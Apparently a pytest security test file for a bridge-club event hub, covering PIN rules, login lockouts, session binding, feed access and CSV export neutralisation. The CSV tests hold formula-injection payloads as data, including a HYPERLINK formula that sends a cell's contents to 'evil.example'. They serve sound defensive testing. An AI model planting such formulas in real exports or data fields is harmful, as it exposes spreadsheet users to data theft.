"""Security on a venue LAN (decisions D20, issue [TRUST]): the director's PIN, its attempt
limits and audit, sessions bound to their connection, the feed without a session only on
loopback, the PIN kept out of child processes' command lines, and CSV exports a
spreadsheet cannot run."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import subprocess

import pytest
from click.testing import CliRunner
from event_text import one_section_event
from hub_stub import wait_until
from websockets.asyncio.client import connect

import hub.cli.demo as demo_cli
from hub.api import sessions as s
from hub.api.feed import Feed
from hub.api.server import ApiServer
from hub.cli.main import cli
from hub.event.csv_cells import plain, safe_cell
from hub.live.service.hub_service import HubService
from hub.store.exchange import export_bws, import_player_numbers
from hub.store.store import ResultEntry, Store

EVENT = one_section_event("Security", 'kind = "howell", tables = 3, boards_per_round = 2')
PIN = "K7M4Q9TX"
LAN_PEER = "192.0.2.7"  # TEST-NET-1 (RFC 5737): an address that is surely not loopback


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


# --- the PIN ---------------------------------------------------------------------------


def test_d20_default_pin_is_8_random_unambiguous_characters():
    pins = {s.new_pin() for _ in range(50)}
    assert len(pins) == 50  # random: 32**8 possibilities, a repeat in 50 is ~1e-9
    for pin in pins:
        assert len(pin) == 8
        assert set(pin) <= set("23456789ABCDEFGHJKLMNPQRSTUVWXYZ")
        assert not set(pin) & set("0O1I")


def test_d20_an_empty_pin_is_refused_with_a_plain_message(tmp_path):
    event = tmp_path / "e.toml"
    event.write_text(EVENT, "utf-8")
    args = ["run", "--event", str(event), "--station", "loop://"]
    given = CliRunner().invoke(cli, [*args, "--td-pin", ""])
    assert given.exit_code == 2 and "the director's PIN is empty" in given.output
    assert "Traceback" not in given.output
    from_env = CliRunner().invoke(cli, args, env={"BRIDGEHUB_TD_PIN": ""})
    assert from_env.exit_code == 2 and "the director's PIN is empty" in from_env.output
    assert not (tmp_path / "e.db").exists()  # refused before anything was opened
    with pytest.raises(ValueError, match="PIN is empty"):
        ApiServer(Feed(), _snapshot, _dispatch, "")


def test_d20_run_makes_and_prints_a_pin_or_takes_the_tds_as_given(capsys):
    from hub.cli.director_pin import director_pin

    made = director_pin(None)
    out = capsys.readouterr()
    assert out.out == f"director's PIN for this run: {made}\n" and len(made) == 8
    assert director_pin("24", short_ok=True) == "24"  # short: only when told, with a warning
    err = capsys.readouterr().err
    assert "warning" in err and "2 characters" in err
    assert director_pin("long-enough") == "long-enough"
    assert capsys.readouterr().err == ""


# --- attempt limits ----------------------------------------------------------------------


def test_d20_wrong_pins_from_one_peer_back_off_then_lock_out():
    """Waits after the 1st..5th wrong PIN: nothing (a typing slip), then 1 s doubling, then
    the 15-minute lockout at the 5th; a locked peer is refused even with the right PIN."""
    clock = Clock()
    guard = s.LoginGuard(PIN, clock)
    expected_waits = [0, 1, 2, 4, 15 * 60]
    for n, wait in enumerate(expected_waits, start=1):
        check = guard.attempt(LAN_PEER, "WRONG")
        assert check.verdict is s.LoginVerdict.WRONG and check.failures == n
        assert check.wait_s == wait
        if wait:
            early = guard.attempt(LAN_PEER, PIN)  # too soon: refused, not even compared
            assert early.verdict is s.LoginVerdict.WAIT and "try again in" in early.text()
            clock.now += wait
    locked = guard.attempt(LAN_PEER, "WRONG")  # the lockout was waited out: counted again
    assert locked.wait_s == 30 * 60  # the lockout doubles
    assert guard.attempt("192.0.2.8", PIN).ok  # another peer is not locked by this one
    clock.now += 30 * 60
    assert guard.attempt(LAN_PEER, PIN).ok


def test_d20_wrong_pins_from_the_whole_lan_lock_remote_logins_but_not_loopback():
    clock = Clock()
    guard = s.LoginGuard(PIN, clock)
    for k in range(20):  # one wrong PIN each from 20 addresses: no peer waits by itself
        assert guard.attempt(f"192.0.2.{k + 10}", "WRONG").verdict is s.LoginVerdict.WRONG
    fresh = guard.attempt("198.51.100.1", PIN)
    assert fresh.verdict is s.LoginVerdict.WAIT and fresh.room
    assert "from the venue network" in fresh.text()
    assert guard.attempt("127.0.0.1", PIN).ok  # the TD's own machine still logs in
    clock.now += 15 * 60
    assert guard.attempt("198.51.100.1", PIN).ok


def test_d20_every_wrong_pin_is_audited_in_the_store_and_logged_with_the_peer(tmp_path, caplog):
    async def scenario():
        store = Store.open(f"sqlite:///{tmp_path / 'event.db'}")
        eid = store.create_event(EVENT)
        hub = HubService(store, eid, [], api=("127.0.0.1", 0), td_pin=PIN)
        await hub.start()
        try:
            async with connect(f"ws://127.0.0.1:{hub.api.port}/v1") as ws:
                await ws.send(json.dumps({"type": "hello", "version": 1}))
                assert json.loads(await ws.recv())["type"] == "snapshot"
                answers = []
                for pin in ("0000", "1234", PIN):
                    await ws.send(json.dumps({"type": "login", "pin": pin, "name": "Anna"}))
                    answers.append(await _reply(ws))
                assert [a["type"] for a in answers] == ["reply", "reply", "reply"]
                assert answers[0]["error"] == "wrong PIN"
                assert answers[1]["error"] == "wrong PIN; wait 1 s"
                assert "too many wrong PINs from 127.0.0.1" in answers[2]["error"]
                await wait_until(
                    lambda: len(store.audit_log(eid, "api_login_refused")) == 2,
                    10,
                    "two refused log-ins in the audit trail",
                )
        finally:
            await hub.stop()
        refused = store.audit_log(eid, "api_login_refused")
        waiting = store.audit_log(eid, "api_login_waiting")
        store.close()
        return refused, waiting

    with caplog.at_level(logging.WARNING, logger="hub.api.server"):
        refused, waiting = asyncio.run(scenario())
    assert [(a["actor"], a["detail"]["failures"]) for a in refused] == [
        ("API 127.0.0.1", 1),
        ("API 127.0.0.1", 2),
    ]
    # the third attempt was not compared: counted per peer and minute (a flood of them
    # cannot force a disk write each)
    assert [(a["actor"], a["detail"]["count"]) for a in waiting] == [("API 127.0.0.1", 1)]
    logged = [r.getMessage() for r in caplog.records if "login from" in r.getMessage()]
    assert len(logged) == 3 and all("127.0.0.1" in m for m in logged)


# --- sessions -------------------------------------------------------------------------


def test_d20_a_session_expires_after_12_hours_unused_and_is_bound_to_its_connection():
    clock = Clock()
    sessions = s.Sessions(clock)
    mine, other = object(), object()
    token = sessions.open("Anna", mine)
    assert sessions.actor(token, mine) == "Anna"
    with pytest.raises(s.SessionRefused, match="another connection"):
        sessions.actor(token, other)
    clock.now += 12 * 3600 - 1  # used just in time: the idle time starts again
    assert sessions.actor(token, mine) == "Anna"
    clock.now += 12 * 3600 + 1
    with pytest.raises(s.SessionRefused, match="expired"):
        sessions.actor(token, mine)
    with pytest.raises(s.SessionRefused, match="log in"):
        sessions.actor(token, mine)  # gone for good
    token = sessions.open("Anna", mine)
    assert sessions.end(mine) == 1
    with pytest.raises(s.SessionRefused):
        sessions.actor(token, mine)


def test_d20_a_token_from_another_connection_is_refused_and_closing_ends_the_session():
    async def scenario():
        server = ApiServer(Feed(), _snapshot, _dispatch, PIN, port=0)
        await server.start()
        url = f"ws://127.0.0.1:{server.port}/v1"
        try:
            async with connect(url) as first, connect(url) as second:
                for ws in (first, second):
                    await ws.send(json.dumps({"type": "hello", "version": 1}))
                    assert json.loads(await ws.recv())["type"] == "snapshot"
                await first.send(json.dumps({"type": "login", "pin": PIN, "id": "l"}))
                token = (await _reply(first))["token"]
                command = {"type": "command", "token": token, "name": "pause", "args": {}}
                await second.send(json.dumps({**command, "id": "stolen"}))
                stolen = await _reply(second)
                assert not stolen["ok"] and "another connection" in stolen["error"]
                await first.send(json.dumps({**command, "id": "own"}))
                assert (await _reply(first))["ok"]
                await first.close()
                await wait_until(lambda: len(server.sessions) == 0, 5, "the session to end")
                await second.send(json.dumps({**command, "id": "after"}))
                after = await _reply(second)
                assert not after["ok"] and "log in" in after["error"]
        finally:
            await server.stop()

    asyncio.run(scenario())


# --- the feed without a session ---------------------------------------------------------


@pytest.mark.parametrize("allowed", [False, True])
def test_d20_a_lan_peer_logs_in_before_the_feed_unless_the_td_allows_it(allowed, monkeypatch):
    """The peer address check is simulated: every connection is taken as coming from
    192.0.2.7 (the test cannot rely on a second, non-loopback interface)."""
    monkeypatch.setattr(ApiServer, "_peer", lambda self, ws: LAN_PEER)

    async def scenario():
        server = ApiServer(Feed(), _snapshot, _dispatch, PIN, port=0, allow_remote_feed=allowed)
        await server.start()
        try:
            async with connect(f"ws://127.0.0.1:{server.port}/v1") as ws:
                await ws.send(json.dumps({"type": "hello", "version": 1}))
                first = json.loads(await ws.recv())
                if allowed:
                    assert first["type"] == "snapshot"
                    return
                assert first["type"] == "login_required"
                assert "--allow-remote-feed" in first["error"]
                await ws.send(json.dumps({"type": "command", "name": "pause", "id": "c"}))
                refused = json.loads(await ws.recv())
                assert refused["id"] == "c" and not refused["ok"]
                await ws.send(json.dumps({"type": "login", "pin": "nope", "id": "l1"}))
                assert json.loads(await ws.recv())["error"] == "wrong PIN"
                await ws.send(json.dumps({"type": "login", "pin": PIN, "id": "l2"}))
                assert json.loads(await ws.recv())["type"] == "session"
                assert json.loads(await ws.recv())["type"] == "snapshot"  # only now
        finally:
            await server.stop()

    asyncio.run(scenario())


def test_d20_a_screen_without_the_pin_on_the_lan_is_told_why_it_gets_no_feed(monkeypatch):
    """The peer address check is simulated, as above."""
    from hub.api.client import websocket_source

    monkeypatch.setattr(ApiServer, "_peer", lambda self, ws: LAN_PEER)

    async def scenario():
        server = ApiServer(Feed(), _snapshot, _dispatch, PIN, port=0)
        await server.start()
        try:
            source, _ = websocket_source(f"ws://127.0.0.1:{server.port}/v1", name="screen")
            feed = source()
            first = await asyncio.wait_for(anext(feed), 10)
            await feed.aclose()
        finally:
            await server.stop()
        return first

    first = asyncio.run(scenario())
    assert first["type"] == "link" and not first["up"]
    assert "director's PIN" in first["error"]


def test_d20_loopback_and_proxied_peers():
    assert s.is_loopback("127.0.0.1") and s.is_loopback("::1")
    assert s.is_loopback("::ffff:127.0.0.1") and s.is_loopback("127.8.9.1")
    assert not s.is_loopback("192.168.1.20") and not s.is_loopback("0.0.0.0")
    assert not s.is_loopback("fe80::1%eth0")
    # a TLS proxy on this machine names the client; a remote peer cannot claim one
    assert s.peer_of("127.0.0.1", "10.0.0.5, 192.168.1.20") == "192.168.1.20"
    assert s.peer_of("192.168.1.30", "127.0.0.1") == "192.168.1.30"
    assert s.peer_of("127.0.0.1", None) == "127.0.0.1"


# --- the PIN in child processes -----------------------------------------------------------


def test_d20_demo_gives_its_children_the_pin_in_the_environment_not_argv(tmp_path, monkeypatch):
    started: list[tuple[list[str], dict[str, str] | None]] = []

    class FakeChild:
        def __init__(self, args, env=None, **kw):
            started.append((list(args), env))
            self.stdout = io.StringIO("virtual base station at: loop://\n")

        def terminate(self):
            pass

        def wait(self, timeout=None):
            return 0

    def fake_run(args, env=None, **kw):
        started.append((list(args), env))
        return subprocess.CompletedProcess(args, 0)

    monkeypatch.setattr(demo_cli.subprocess, "Popen", FakeChild)
    monkeypatch.setattr(demo_cli.subprocess, "run", fake_run)
    result = CliRunner().invoke(cli, ["demo", "--dir", str(tmp_path), "--console"])
    assert result.exit_code == 0, result.output
    names = [args[1] for args, _ in started]
    assert names == ["simulate", "run", "console"]
    pin = started[1][1]["BRIDGEHUB_TD_PIN"]
    assert len(pin) == 8 and started[2][1]["BRIDGEHUB_TD_PIN"] == pin
    for args, _ in started:
        assert pin not in " ".join(args)
        assert "--td-pin" not in args and "--pin" not in args


def test_d20_the_console_reads_the_pin_from_the_environment():
    from hub.cli.console import console
    from hub.cli.screen import screen

    for command in (console, screen):
        option = next(p for p in command.params if p.name == "pin")
        assert option.envvar == "BRIDGEHUB_TD_PIN"


# --- CSV exports ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("-430", "-430"),  # a number stays a number
        ("+1", "+1"),
        ("-0.5", "-0.5"),
        ("Nils N", "Nils N"),
        (-430, -430),
        ("", ""),
    ],
)
def test_d20_csv_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
    assert safe_cell(cell) == written
    if isinstance(cell, str):
        assert plain(str(written)) == cell


def test_d20_exports_neutralise_a_formula_keyed_as_a_player_name(tmp_path):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    store = Store.open(f"sqlite:///{tmp_path / 'event.db'}")
    eid = store.create_event(EVENT)
    row = store.movement(eid, "A").round_rows(1)[0]
    store.set_player(eid, "A", row.ns_pair, 0, name=name, number="-430", actor="test")
    store.set_player(eid, "A", row.ns_pair, 1, name="@SUM(1+1)", number="2002", actor="test")
    board = row.boards[0]
    down = ResultEntry("A", row.table, 1, board, row.ns_pair, row.ew_pair, "4S", "N", tricks=9)
    store.record(eid, [down])
    export_bws(store, eid, tmp_path / "bws")
    with (tmp_path / "bws" / "PlayerNumbers.csv").open(newline="", encoding="utf-8") as f:
        cells = [c for r in csv.reader(f) for c in r]
    assert "'" + name in cells and "'@SUM(1+1)" in cells
    assert name not in cells and "-430" in cells  # the member number stays a number
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c in ("-",)]
    with (tmp_path / "bws" / "ReceivedData.csv").open(newline="", encoding="utf-8") as f:
        result = next(csv.DictReader(f))["Result"]
    assert result == "-1"  # Bridgemate's result column as it was
    other = store.create_event(EVENT)  # read back: the name as it was keyed
    assert import_player_numbers(store, other, tmp_path / "bws" / "PlayerNumbers.csv") == 2
    players = {c["number"]: c["players"] for c in store.contestants(other, "A")}
    assert players[row.ns_pair][0]["name"] == name
    assert players[row.ns_pair][0]["number"] == "-430"
    store.close()


# --- helpers --------------------------------------------------------------------------------


async def _snapshot():
    return {"event": "Security"}


async def _dispatch(name, args, actor):
    return {}


async def _reply(ws):
    """The next reply or session message (events and snapshots skipped)."""
    while True:
        msg = json.loads(await asyncio.wait_for(ws.recv(), 10))
        if msg["type"] in ("reply", "session"):
            return msg
